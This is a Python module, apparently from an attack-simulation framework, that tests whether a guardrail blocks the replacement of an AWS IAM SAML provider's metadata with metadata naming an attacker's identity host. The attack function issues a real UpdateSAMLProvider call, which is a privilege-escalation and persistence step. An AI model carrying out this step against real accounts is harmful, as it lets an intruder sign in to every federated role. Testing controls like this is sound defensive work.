"""Replace the metadata of a SAML provider: the intruder's certificate signs for every federated role."""

from bastide.attack.stage import Stage
from bastide.attack.technique import Prevented, Scene, Technique

TECHNIQUE = Technique(
    title="A SAML provider's certificate is replaced",
    mitre=("T1484.002", "T1556"),
    tactic="privilege-escalation",
    detectors=("GuardDuty Persistence:IAMUser/AnomalousBehavior",),
    expected=Prevented("sso-saml-idp-protect"),
    source="IAM API Reference, UpdateSAMLProvider",
)
METADATA = """<?xml version="1.0"?>
<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="https://{host}/saml">
<md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">
<md:KeyDescriptor use="signing"/><md:SingleSignOnService
 Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="https://{host}/sso/{filler}"/>
</md:IDPSSODescriptor></md:EntityDescriptor>"""


def _metadata(host: str) -> str:
    return METADATA.format(host=host, filler="x" * 1000)  # IAM takes no document under 1,000 characters


def prepare(stage: Stage) -> Scene:
    """The company's provider."""
    made = (
        stage.owner()
        .client("iam")
        .create_saml_provider(Name=stage.name("corp"), SAMLMetadataDocument=_metadata("login.corp.example"))
    )
    return {"arn": made["SAMLProviderArn"]}


def attack(stage: Stage, scene: Scene) -> None:
    """Put metadata of the intruder's in its place."""
    stage.attacker().client("iam").update_saml_provider(
        SAMLProviderArn=scene["arn"], SAMLMetadataDocument=_metadata("login.attacker.example")
    )


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The provider's metadata names the intruder's host."""
    found = stage.owner().client("iam").get_saml_provider(SAMLProviderArn=scene["arn"])
    return "login.attacker.example" in found["SAMLMetadataDocument"]


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete the provider."""
    stage.owner().client("iam").delete_saml_provider(SAMLProviderArn=scene["arn"])
